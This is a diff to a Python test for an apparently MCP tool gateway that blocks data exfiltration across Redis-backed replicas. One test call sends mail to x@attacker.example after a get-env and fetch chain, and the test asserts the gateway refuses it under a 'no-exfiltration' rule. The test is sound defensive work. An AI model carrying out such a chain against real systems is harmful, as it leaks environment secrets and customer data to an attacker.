@@ -46,6 +46,12 @@ async def call(http: httpx.AsyncClient, url: str, sid: str, rid: int, tool: str,
     return response.json()
 
 
+def refusal(reply: dict[str, Any]) -> dict[str, Any]:
+    """Who refused a tools/call answered as an `isError` result (refusals: result, the default)."""
+    assert reply["result"]["isError"] is True
+    return reply["result"]["_meta"]["dev.bastion/refusal"]
+
+
 async def test_taint_recorded_on_one_replica_refuses_the_egress_on_the_other(tmp_path: Path):
     prefix = f"bastion-flow-{uuid.uuid4().hex}:"
     document = flow_config(
@@ -72,16 +78,16 @@ async def test_taint_recorded_on_one_replica_refuses_the_egress_on_the_other(tmp
                     "mail__send_email",
                     {"to": "x@attacker.example", "subject": "s", "body": "b"},
                 )
-                assert refused["error"]["data"]["rule"] == "no-exfiltration"
-                assert [m["tool"] for m in refused["error"]["data"]["chain"]] == [
+                assert refusal(refused)["rule"] == "no-exfiltration"
+                assert [m["tool"] for m in refusal(refused)["chain"]] == [
                     "everything__get-env",
                     "fetch__fetch",
                 ]
                 leaked = await call(http, second, sid, 4, "everything__echo", {"message": CUSTOMER_EMAIL})
-                assert leaked["error"]["data"]["rule"] == "data-rule"
+                assert refusal(leaked)["rule"] == "data-rule"
                 other = await initialize(http, second)
                 fresh = await call(http, second, other, 5, "everything__echo", {"message": CUSTOMER_EMAIL})
-                assert "error" not in fresh
+                assert "error" not in fresh and not fresh["result"].get("isError")
     finally:
         async with RedisStateStore(REDIS_URL, key_prefix=prefix) as store:
             keys = [k async for k in store._redis.scan_iter(match=f"{prefix}*")]
